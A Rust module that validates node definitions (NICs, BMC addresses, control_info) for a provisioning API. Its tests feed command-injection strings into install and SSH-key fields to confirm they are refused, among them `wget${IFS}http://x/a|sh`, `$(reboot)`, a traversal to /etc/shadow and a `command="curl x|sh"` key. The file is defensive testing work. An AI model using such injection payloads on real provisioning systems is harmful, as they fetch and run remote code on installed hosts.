//! A node as an admin writes it: the validated form of one entry of
//! `{"nodes":[...]}` in POST /v1/nodes (and of a node after a PATCH).

use serde_json::{Map, Value, json};
use uuid::Uuid;

use super::fields::{
    Arch, FieldError, Mgt, Netboot, check_hostname, check_node_name, normalize_mac, parse_ip,
};

/// Fields the server owns; sending them is an error, not silently ignored.
const READ_ONLY: &[&str] = &[
    "id",
    "reservation",
    "state",
    "last_error",
    "deploy_step",
    "power_state",
    "conductor_affinity",
    "conductor",
    "osimage_id",
    "osimage",
    "passwd_id",
    "task_action",
    "scripts_info",
    "created_at",
    "updated_at",
];

/// Upper bound on a serialized `control_info` / `console_info` object.
const MAX_INFO_BYTES: usize = 16 * 1024;
/// Upper bound on nics per node.
const MAX_NICS: usize = 64;

/// A validated node.
#[derive(Debug, Clone, PartialEq)]
pub struct NodeSpec {
    pub name: String,
    pub mgt: Option<Mgt>,
    pub netboot: Option<Netboot>,
    pub arch: Option<Arch>,
    pub node_type: Option<String>,
    pub control_info: Map<String, Value>,
    pub console_info: Map<String, Value>,
    pub nics: Vec<NicSpec>,
    /// The groups the node inherits from, first one first.
    pub groups: Vec<String>,
}

/// A validated network interface of a node.
#[derive(Debug, Clone, PartialEq)]
pub struct NicSpec {
    /// Client-supplied or generated at creation; stable across export/import.
    pub uuid: Uuid,
    /// Whether `uuid` came from the client (only those can collide).
    pub uuid_given: bool,
    pub name: Option<String>,
    /// Lower-case colon form.
    pub mac: String,
    pub ip: Option<String>,
    pub netmask: Option<String>,
    pub primary: bool,
    pub extra: Map<String, Value>,
}

impl NodeSpec {
    /// Paths a PATCH may touch: every writable field but the name.
    pub const PATCHABLE: &'static [&'static str] = &[
        "mgt",
        "netboot",
        "arch",
        "type",
        "control_info",
        "console_info",
        "nics_info",
        "groups",
    ];

    /// Validates one node object. Errors name the field (`nics_info.nics[1].mac`).
    pub fn from_json(value: &Value) -> Result<NodeSpec, FieldError> {
        let obj = value
            .as_object()
            .ok_or_else(|| FieldError::new("node", "must be a JSON object"))?;
        for key in obj.keys() {
            if READ_ONLY.contains(&key.as_str()) {
                return Err(FieldError::new(key, "is read-only"));
            }
            if key != "name" && !Self::PATCHABLE.contains(&key.as_str()) {
                return Err(FieldError::new(
                    key,
                    format!(
                        "unknown field (writable: name, {})",
                        Self::PATCHABLE.join(", ")
                    ),
                ));
            }
        }
        let name = opt_str(obj, "name")?.ok_or_else(|| FieldError::new("name", "is required"))?;
        check_node_name(name)?;
        let mgt = opt_str(obj, "mgt")?
            .map(|v| Mgt::parse("mgt", v))
            .transpose()?;
        let netboot = opt_str(obj, "netboot")?
            .map(|v| Netboot::parse("netboot", v))
            .transpose()?;
        let arch = opt_str(obj, "arch")?
            .map(|v| Arch::parse("arch", v))
            .transpose()?;
        let node_type = opt_str(obj, "type")?
            .map(|t| check_type(t).map(|_| t.to_string()))
            .transpose()?;
        let control_info = info_map(obj, "control_info")?;
        crate::hardware::check_keys(&control_info, mgt, node_type.as_deref())?;
        check_control_info(&control_info)?;
        let console_info = info_map(obj, "console_info")?;
        crate::console::check(&console_info)?;
        let nics = parse_nics(obj.get("nics_info"))?;
        let groups = super::group::parse_groups(obj.get("groups"))?;
        Ok(NodeSpec {
            name: name.to_string(),
            mgt,
            netboot,
            arch,
            node_type,
            control_info,
            console_info,
            nics,
            groups,
        })
    }

    /// The writable fields as the v1 wire shape (the document PATCH edits).
    pub fn to_json(&self) -> Value {
        json!({
            "name": self.name,
            "mgt": self.mgt.map(|m| m.as_str()),
            "netboot": self.netboot.map(|m| m.as_str()),
            "arch": self.arch.map(|m| m.as_str()),
            "type": self.node_type,
            "control_info": self.control_info,
            "console_info": self.console_info,
            "nics_info": {"nics": self.nics.iter().map(NicSpec::to_json).collect::<Vec<_>>()},
            "groups": self.groups,
        })
    }
}

impl NicSpec {
    /// Validates one nic; `field` prefixes error names (`nics_info.nics[0]`).
    pub fn from_json(field: &str, value: &Value) -> Result<NicSpec, FieldError> {
        const KNOWN: &[&str] = &["uuid", "name", "mac", "ip", "netmask", "primary", "extra"];
        let obj = value
            .as_object()
            .ok_or_else(|| FieldError::new(field, "must be a JSON object"))?;
        let f = |k: &str| format!("{field}.{k}");
        for key in obj.keys() {
            if !KNOWN.contains(&key.as_str()) {
                return Err(FieldError::new(
                    f(key),
                    format!("unknown field (known: {})", KNOWN.join(", ")),
                ));
            }
        }
        let mac = opt_str_f(obj, "mac", &f("mac"))?
            .ok_or_else(|| FieldError::new(f("mac"), "is required"))?;
        let mac = normalize_mac(&f("mac"), mac)?;
        let (uuid, uuid_given) = match opt_str_f(obj, "uuid", &f("uuid"))? {
            Some(u) => (
                Uuid::parse_str(u)
                    .map_err(|_| FieldError::new(f("uuid"), format!("`{u}` is not a UUID")))?,
                true,
            ),
            None => (Uuid::new_v4(), false),
        };
        let name = opt_str_f(obj, "name", &f("name"))?;
        if let Some(n) = name
            && (n.is_empty()
                || n.len() > 32
                || !n
                    .bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b"-_.:@".contains(&b)))
        {
            return Err(FieldError::new(
                f("name"),
                format!("`{n}` is not an interface name (1-32 of A-Z a-z 0-9 - _ . : @)"),
            ));
        }
        let ip = opt_str_f(obj, "ip", &f("ip"))?
            .map(|ip| parse_ip(&f("ip"), ip).map(|a| a.to_string()))
            .transpose()?;
        let netmask = opt_str_f(obj, "netmask", &f("netmask"))?
            .map(|m| parse_ip(&f("netmask"), m).map(|a| a.to_string()))
            .transpose()?;
        let primary = match obj.get("primary") {
            None | Some(Value::Null) => false,
            Some(v) => parse_bool(&f("primary"), v)?,
        };
        let extra = match obj.get("extra") {
            None | Some(Value::Null) => Map::new(),
            Some(Value::Object(m)) => m.clone(),
            Some(_) => return Err(FieldError::new(f("extra"), "must be a JSON object")),
        };
        Ok(NicSpec {
            uuid,
            uuid_given,
            name: name.map(str::to_string),
            mac,
            ip,
            netmask,
            primary,
            extra,
        })
    }

    pub fn to_json(&self) -> Value {
        json!({
            "uuid": self.uuid.to_string(),
            "name": self.name,
            "mac": self.mac,
            "ip": self.ip,
            "netmask": self.netmask,
            "primary": self.primary,
            "extra": self.extra,
        })
    }
}

fn parse_nics(value: Option<&Value>) -> Result<Vec<NicSpec>, FieldError> {
    let list = match value {
        None | Some(Value::Null) => return Ok(Vec::new()),
        Some(Value::Object(o)) => match o.get("nics") {
            None | Some(Value::Null) => return Ok(Vec::new()),
            Some(Value::Array(a)) => a,
            Some(_) => return Err(FieldError::new("nics_info.nics", "must be a list")),
        },
        Some(_) => {
            return Err(FieldError::new(
                "nics_info",
                "must be an object {\"nics\": [...]}",
            ));
        }
    };
    if list.len() > MAX_NICS {
        return Err(FieldError::new(
            "nics_info.nics",
            format!("more than {MAX_NICS} nics"),
        ));
    }
    let mut nics = Vec::with_capacity(list.len());
    for (i, v) in list.iter().enumerate() {
        let nic = NicSpec::from_json(&format!("nics_info.nics[{i}]"), v)?;
        if let Some(j) = nics.iter().position(|n: &NicSpec| n.mac == nic.mac) {
            return Err(FieldError::new(
                format!("nics_info.nics[{i}].mac"),
                format!("{} is also nics[{j}]", nic.mac),
            ));
        }
        if nics.iter().any(|n: &NicSpec| n.uuid == nic.uuid) {
            return Err(FieldError::new(
                format!("nics_info.nics[{i}].uuid"),
                "is given twice",
            ));
        }
        nics.push(nic);
    }
    match nics.iter().filter(|n| n.primary).count() {
        // The prototype took "the first nic with a primary key", which was
        // always the first; we make that explicit instead of guessing later.
        0 => {
            if let Some(first) = nics.first_mut() {
                first.primary = true;
            }
        }
        1 => {}
        _ => {
            return Err(FieldError::new(
                "nics_info.nics",
                "more than one nic is marked primary",
            ));
        }
    }
    Ok(nics)
}

fn check_type(t: &str) -> Result<(), FieldError> {
    if t.is_empty()
        || t.len() > 32
        || !t
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'-')
    {
        return Err(FieldError::new(
            "type",
            format!("`{t}` is not a node type (1-32 of A-Z a-z 0-9 _ -)"),
        ));
    }
    Ok(())
}

/// An IP address or host name; for a BMC also a Redfish base URL,
/// `http[s]://HOST[:PORT]`.
fn check_address(field: &str, s: &str, url_allowed: bool) -> Result<(), FieldError> {
    let bad = || {
        let what = if url_allowed {
            "an IP address, host name or http(s)://HOST[:PORT] URL"
        } else {
            "an IP address or host name"
        };
        FieldError::new(field, format!("`{s}` is not {what}"))
    };
    let host = match s.split_once("://") {
        Some((scheme, rest)) if url_allowed && (scheme == "http" || scheme == "https") => {
            let rest = rest.trim_end_matches('/');
            if rest.contains('/') {
                return Err(bad());
            }
            // [v6]:port, host:port, or a bare host.
            if let Some(v6) = rest.strip_prefix('[') {
                let (ip, port) = v6.split_once(']').ok_or_else(bad)?;
                if !(port.is_empty()
                    || port
                        .strip_prefix(':')
                        .is_some_and(|p| p.parse::<u16>().is_ok()))
                {
                    return Err(bad());
                }
                return parse_ip(field, ip).map(drop).map_err(|_| bad());
            }
            match rest.rsplit_once(':') {
                Some((h, p)) => {
                    p.parse::<u16>().map_err(|_| bad())?;
                    h
                }
                None => rest,
            }
        }
        Some(_) => return Err(bad()),
        None => s,
    };
    if parse_ip(field, host).is_err() {
        check_hostname(field, host).map_err(|_| bad())?;
    }
    Ok(())
}

/// Checks the values of `control_info` keys that can be checked without
/// the driver (which keys a node may hold is `hardware::check_keys`'s).
fn check_control_info(info: &Map<String, Value>) -> Result<(), FieldError> {
    for (key, value) in info {
        let field = format!("control_info.{key}");
        if super::is_secret_key(key) && value.as_str() == Some(super::MASK) {
            // An exported node carries masks, not secrets; storing the mask
            // as a password would break the node silently.
            return Err(FieldError::new(
                &field,
                format!(
                    "`{}` is the mask replies show, not a secret; give the real value",
                    super::MASK
                ),
            ));
        }
        match key.as_str() {
            "bmc_address" | "ssh_address" => {
                let s = value
                    .as_str()
                    .ok_or_else(|| FieldError::new(&field, "must be a string"))?;
                check_address(&field, s, key == "bmc_address")?;
            }
            // libvirt URIs and what goes into them: checked here so a
            // node that would make a conductor run a program is refused
            // when written (the conductor checks again before connecting).
            "libvirt_uri" | "ssh_username" | "ssh_key_filename" => {
                let s = value
                    .as_str()
                    .ok_or_else(|| FieldError::new(&field, "must be a string"))?;
                match key.as_str() {
                    "libvirt_uri" => super::LibvirtUri::parse(s).map(drop),
                    "ssh_username" => super::check_user(s),
                    _ => super::check_key_file(s),
                }
                .map_err(|e| FieldError::new(&field, e))?;
            }
            "bmc_username" | "bmc_password" | "ssh_password" | "domain" if !value.is_string() => {
                return Err(FieldError::new(&field, "must be a string"));
            }
            "bmc_port" | "ssh_port" => {
                as_int(value)
                    .filter(|p| (1..=65535).contains(p))
                    .ok_or_else(|| FieldError::new(&field, "must be a port number 1-65535"))?;
            }
            // OS deployment: the disk to install on, extra packages and
            // kernel arguments for the installer.
            "install_disk" | "install_packages" | "install_args" | "ssh_authorized_keys" => {
                let s = value
                    .as_str()
                    .ok_or_else(|| FieldError::new(&field, "must be a string"))?;
                check_install_value(key, s)?;
            }
            "postscripts" => {
                let s = value.as_str().ok_or_else(|| {
                    FieldError::new(&field, "must be a string: names, comma-separated")
                })?;
                crate::postscripts::parse_list(s).map_err(|e| FieldError::new(&field, e))?;
            }
            "os_ssh_port" => {
                as_int(value)
                    .filter(|p| (1..=65535).contains(p))
                    .ok_or_else(|| FieldError::new(&field, "must be a port number 1-65535"))?;
            }
            "os_address" | "os_ssh_host_keys" if !value.is_string() => {
                return Err(FieldError::new(&field, "must be a string"));
            }
            "cipher_suite" => {
                as_int(value)
                    .filter(|p| (0..=17).contains(p))
                    .ok_or_else(|| FieldError::new(&field, "must be a cipher suite 0-17"))?;
            }
            _ => {}
        }
    }
    if super::VmShape::present(info) {
        super::VmShape::from_control_info(info)?;
    }
    Ok(())
}

/// Checks a `control_info` value that reaches an answer file, a kernel
/// command line or a boot script (`install_disk`, `install_packages`,
/// `install_args`) against a whitelist of characters: answer files run
/// shell (preseed's early command, kickstart's %post), iPXE expands
/// `${...}` and GRUB splits on `;`, so anything outside the whitelist is
/// refused rather than escaped. Used when a node is written and again by
/// the conductor before rendering (records stored before the check).
pub fn check_install_value(key: &str, value: &str) -> Result<(), FieldError> {
    let field = format!("control_info.{key}");
    let words_of = |extra: &str| {
        value.len() <= 4096
            && value.split(' ').all(|w| {
                w.bytes()
                    .all(|b| b.is_ascii_alphanumeric() || extra.as_bytes().contains(&b))
            })
    };
    let (ok, what) = match key {
        "install_disk" => (
            value.len() <= 255
                && value.strip_prefix("/dev/").is_some_and(|rest| {
                    !rest.is_empty()
                        && !rest.split('/').any(|seg| seg == "..")
                        && rest
                            .bytes()
                            .all(|b| b.is_ascii_alphanumeric() || b"/_.:+-".contains(&b))
                }),
            "must be a device path such as /dev/sda or /dev/disk/by-id/wwn-0x5000c5 (letters, digits, / _ . : + -)",
        ),
        "install_packages" => (
            words_of("._+:~@=-"),
            "must be package names separated by spaces (letters, digits, . _ + : ~ @ = -)",
        ),
        "install_args" => (
            words_of("._,:/=+@~%-"),
            "must be kernel arguments separated by spaces (letters, digits, . _ , : / = + @ ~ % -)",
        ),
        // Lines of `TYPE BASE64 [COMMENT]` as in authorized_keys (no
        // options: a record cannot add `command=` to root's keys).
        "ssh_authorized_keys" => (
            value.len() <= 16384
                && value.lines().filter(|l| !l.trim().is_empty()).all(|l| {
                    let mut w = l.split_whitespace();
                    let kind = w.next().unwrap_or("");
                    let key = w.next().unwrap_or("");
                    (kind.starts_with("ssh-")
                        || kind.starts_with("ecdsa-sha2-")
                        || kind.starts_with("sk-"))
                        && !key.is_empty()
                        && key
                            .bytes()
                            .all(|b| b.is_ascii_alphanumeric() || b"+/=".contains(&b))
                        && l.bytes().all(|b| (0x20..0x7f).contains(&b))
                }),
            "must be public keys, one per line, as `ssh-ed25519 AAAA... comment` (no options)",
        ),
        _ => (true, ""),
    };
    if ok {
        Ok(())
    } else {
        Err(FieldError::new(&field, what))
    }
}

/// An integer given as a JSON number or a numeric string (`"623"`), since
/// CLI values arrive as text.
fn as_int(v: &Value) -> Option<i64> {
    match v {
        Value::Number(n) => n.as_i64(),
        Value::String(s) => s.trim().parse().ok(),
        _ => None,
    }
}

fn parse_bool(field: &str, v: &Value) -> Result<bool, FieldError> {
    match v {
        Value::Bool(b) => Ok(*b),
        Value::String(s) => match s.to_ascii_lowercase().as_str() {
            "true" | "yes" | "1" | "on" => Ok(true),
            "false" | "no" | "0" | "off" => Ok(false),
            _ => Err(FieldError::new(field, format!("`{s}` is not a boolean"))),
        },
        _ => Err(FieldError::new(field, "must be true or false")),
    }
}

fn opt_str<'a>(obj: &'a Map<String, Value>, key: &str) -> Result<Option<&'a str>, FieldError> {
    opt_str_f(obj, key, key)
}

fn opt_str_f<'a>(
    obj: &'a Map<String, Value>,
    key: &str,
    field: &str,
) -> Result<Option<&'a str>, FieldError> {
    match obj.get(key) {
        None | Some(Value::Null) => Ok(None),
        Some(Value::String(s)) => Ok(Some(s.as_str())),
        Some(_) => Err(FieldError::new(field, "must be a string")),
    }
}

fn info_map(obj: &Map<String, Value>, key: &str) -> Result<Map<String, Value>, FieldError> {
    match obj.get(key) {
        None | Some(Value::Null) => Ok(Map::new()),
        Some(Value::Object(m)) => {
            let size = serde_json::to_string(m).map(|s| s.len()).unwrap_or(0);
            if size > MAX_INFO_BYTES {
                return Err(FieldError::new(
                    key,
                    format!("is {size} bytes; at most {MAX_INFO_BYTES}"),
                ));
            }
            Ok(m.clone())
        }
        Some(_) => Err(FieldError::new(key, "must be a JSON object")),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check_err(v: Value, field: &str) {
        let e = NodeSpec::from_json(&v).unwrap_err();
        assert_eq!(e.field, field, "{e}");
    }

    #[test]
    fn prototype_example_node_is_accepted_and_normalized() {
        let v = json!({"name": "node0", "mgt": "ipmi", "netboot": "pxe", "arch": "x86_64",
            "control_info": {"bmc_address": "11.0.0.0", "bmc_username": "admin", "bmc_password": "password"},
            "nics_info": {"nics": [
                {"mac": "42:87:0A:05:00:00", "ip": "12.0.0.0", "name": "eth0", "primary": true},
                {"mac": "43:87:0a:05:00:00", "ip": "13.0.0.0", "name": "eth1"}]}});
        let n = NodeSpec::from_json(&v).unwrap();
        assert_eq!(n.nics[0].mac, "42:87:0a:05:00:00");
        assert!(n.nics[0].primary && !n.nics[1].primary);
        assert_eq!(n.mgt, Some(Mgt::Ipmi));
    }

    #[test]
    fn errors_name_the_field() {
        check_err(json!({"mgt": "ipmi"}), "name");
        check_err(json!({"name": "n1", "mgt": "ipmx"}), "mgt");
        check_err(json!({"name": "n1", "colour": "red"}), "colour");
        check_err(json!({"name": "n1", "state": "deployed"}), "state");
        check_err(
            json!({"name": "n1", "nics_info": {"nics": [{"mac": "nope"}]}}),
            "nics_info.nics[0].mac",
        );
        check_err(
            json!({"name": "n1", "nics_info": {"nics": [{"mac": "42:87:0a:05:00:00"}, {"mac": "42-87-0A-05-00-00"}]}}),
            "nics_info.nics[1].mac",
        );
        check_err(
            json!({"name": "n1", "nics_info": {"nics": [{"mac": "42:87:0a:05:00:00", "ip": "1.2.3"}]}}),
            "nics_info.nics[0].ip",
        );
        check_err(
            json!({"name": "n1", "control_info": {"bmc_address": "not an ip!"}}),
            "control_info.bmc_address",
        );
        check_err(
            json!({"name": "n1", "control_info": {"bmc_port": 70000}}),
            "control_info.bmc_port",
        );
        check_err(json!({"name": "info"}), "name");
    }

    #[test]
    fn first_nic_becomes_primary_when_none_is() {
        let n = NodeSpec::from_json(&json!({"name": "n1", "nics_info": {"nics": [
            {"mac": "42:87:0a:05:00:00"}, {"mac": "42:87:0a:05:00:01"}]}}))
        .unwrap();
        assert!(n.nics[0].primary);
        assert!(!n.nics[1].primary);
    }
}

#[cfg(test)]
mod address_tests {
    use super::{check_address, check_install_value};

    #[test]
    fn bmc_addresses_may_be_redfish_urls() {
        for ok in [
            "10.0.0.1",
            "bmc1.lab",
            "https://bmc1.lab",
            "http://127.3.0.1:8000/",
            "https://[fd00::1]:443",
        ] {
            assert!(
                check_address("control_info.bmc_address", ok, true).is_ok(),
                "{ok}"
            );
        }
        for bad in [
            "ftp://bmc",
            "https://bmc/redfish/v1",
            "http://bmc:99999",
            "not an ip!",
        ] {
            assert!(
                check_address("control_info.bmc_address", bad, true).is_err(),
                "{bad}"
            );
        }
        assert!(check_address("control_info.ssh_address", "http://hv1", false).is_err());
    }

    /// The review's injection (`/dev/sda;wget${IFS}...|sh;#` landed in
    /// preseed's early command) and its relatives: refused by whitelist.
    #[test]
    fn install_values_reaching_answer_files_are_whitelisted() {
        for (key, bad) in [
            ("install_disk", "/dev/sda;wget${IFS}http://x/a|sh;#"),
            ("install_disk", "/dev/sda$(reboot)"),
            ("install_disk", "/dev/../etc/shadow"),
            ("install_disk", "/dev/"),
            ("install_disk", "sda"),
            ("install_packages", "vim;rm"),
            ("install_packages", "vim $(id)"),
            ("install_packages", "a\nb"),
            ("install_args", "console=ttyS0 ${net0/ip}"),
            ("install_args", "a'b"),
            ("install_args", "x;y"),
            ("install_args", "x#y"),
            (
                "ssh_authorized_keys",
                "command=\"curl x|sh\" ssh-ed25519 AAAAC3Nz admin",
            ),
            ("ssh_authorized_keys", "ssh-ed25519 AAAA$(id)"),
            ("ssh_authorized_keys", "not a key"),
            ("ssh_authorized_keys", "ssh-ed25519 AAAA x\u{7}"),
        ] {
            let e = check_install_value(key, bad).expect_err(bad);
            assert_eq!(e.field, format!("control_info.{key}"), "{bad}");
        }
        for (key, good) in [
            (
                "ssh_authorized_keys",
                "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE+x/y= admin@mgmt\n\necdsa-sha2-nistp256 AAAAE2Vj ops",
            ),
            ("install_disk", "/dev/disk/by-path/pci-0000:00:1f.2-ata-1"),
            ("install_disk", "/dev/nvme0n1"),
            (
                "install_packages",
                "vim tmux @core -firewalld kernel-5.14+x",
            ),
            (
                "install_args",
                "console=ttyS0,115200n8 ip=dhcp inst.repo=http://10.0.0.1:3010/install/x/ a%20b",
            ),
        ] {
            assert!(check_install_value(key, good).is_ok(), "{good}");
        }
    }
}
